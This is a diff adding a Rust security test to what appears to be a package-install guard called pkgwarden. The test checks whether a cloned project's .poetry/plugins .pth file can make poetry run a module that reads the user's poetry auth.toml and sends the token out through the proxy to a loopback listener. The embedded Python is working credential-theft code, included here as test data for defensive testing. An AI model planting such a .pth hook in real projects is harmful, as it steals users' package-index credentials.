@@ -1180,3 +1180,88 @@ fn bundle_exec_gemfile_option_is_followed() {
     );
     assert!(direct.is_empty(), "went to the real bundle: {direct:#?}");
 }
+
+/// A module a cloned project keeps in `.poetry/plugins/` with a `.pth`
+/// naming it: it reads poetry's credential store (readable to a poetry
+/// install: poetry itself uses it) and asks the project's source (`{reg}`)
+/// through pkgwarden's proxy for a path carrying it; it says what it did on
+/// stderr.
+const POETRY_PTH_PY: &str = r#"
+import base64, os, sys, urllib.parse, urllib.request
+try:
+    t = open(os.path.expanduser("~/.config/pypoetry/auth.toml")).read()
+except OSError as e:
+    t = "ERR-%d" % e.errno
+tok = "".join(c for c in t if c.isalnum() or c == "-")[-40:]
+sys.stderr.write("EYES16 poetry .pth: read %s\n" % tok[:24])
+try:
+    p = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy"))
+    req = urllib.request.Request("{reg}pw-" + urllib.parse.quote(tok))
+    if p.username:
+        cred = urllib.parse.unquote(p.username) + ":" + urllib.parse.unquote(p.password or "")
+        req.add_header("Proxy-Authorization", "Basic " + base64.b64encode(cred.encode()).decode())
+    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://%s:%d" % (p.hostname, p.port)}))
+    opener.open(req, timeout=10)
+except Exception as e:
+    sys.stderr.write("EYES16 poetry .pth: %r\n" % (e,))
+"#;
+
+/// Bypass 11's twin for poetry. Poetry 2 (`console/application.py`
+/// `_load_plugins`, read in the installed 2.5.1) calls `site.addsitedir`
+/// on `<project>/.poetry/plugins` whenever it exists, for every command
+/// (unless `--no-plugins`): a `.pth` there runs inside poetry. A cloned
+/// project ships `.poetry/plugins/eyes16.pth` (`import eyes16poetry`) and
+/// the module beside it, and names its own source (a loopback listener;
+/// the plan allows it). `poetry lock` in block: the module read the
+/// user's `~/.config/pypoetry/auth.toml` (readable to poetry's install)
+/// and sent it to the project's source through pkgwarden's proxy.
+#[test]
+#[ignore = "round 16: a cloned project's .poetry/plugins/*.pth runs inside poetry in block, reads ~/.config/pypoetry/auth.toml and sends it to the project's source through the proxy"]
+fn a_projects_poetry_plugin_dir_does_not_get_the_users_auth() {
+    if which::which("poetry").is_err() {
+        eprintln!("skipped: no poetry");
+        return;
+    }
+    let (port, heard) = line_sink();
+    let reg = format!("http://127.0.0.1:{port}/");
+    let env = ShimEnv::new(&[]);
+    let auth = env.home.path().join(".config/pypoetry/auth.toml");
+    fs::create_dir_all(auth.parent().unwrap()).unwrap();
+    fs::write(
+        &auth,
+        "[http-basic.private]\nusername = \"eyes16\"\npassword = \"EYES16-POETRYAUTH\"\n",
+    )
+    .unwrap();
+    let project = env.home.subdir("poproj");
+    fs::write(
+        project.join("pyproject.toml"),
+        format!(
+            "[project]\nname = \"poproj\"\nversion = \"0.1.0\"\nrequires-python = \">=3.8\"\ndependencies = [\"pwanything\"]\n\n[[tool.poetry.source]]\nname = \"proj\"\nurl = \"{reg}simple/\"\npriority = \"primary\"\n"
+        ),
+    )
+    .unwrap();
+    let plugins = project.join(".poetry/plugins");
+    fs::create_dir_all(&plugins).unwrap();
+    fs::write(plugins.join("eyes16.pth"), "import eyes16poetry\n").unwrap();
+    fs::write(
+        plugins.join("eyes16poetry.py"),
+        POETRY_PTH_PY.replace("{reg}", &reg),
+    )
+    .unwrap();
+    let r = support::installs::install(
+        &env,
+        "block",
+        &["poetry", "lock"],
+        &project,
+        &[("POETRY_VIRTUALENVS_CREATE", "false".to_string())],
+    );
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    let heard = heard.lock().unwrap().clone();
+    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
+    assert!(
+        !heard.iter().any(|l| l.contains("EYES16-POETRYAUTH")),
+        "the project's .pth sent poetry's credentials to the project's source: {heard:?}; exit {}; serious findings {said:?}\n{}",
+        r.code,
+        r.stderr
+    );
+}
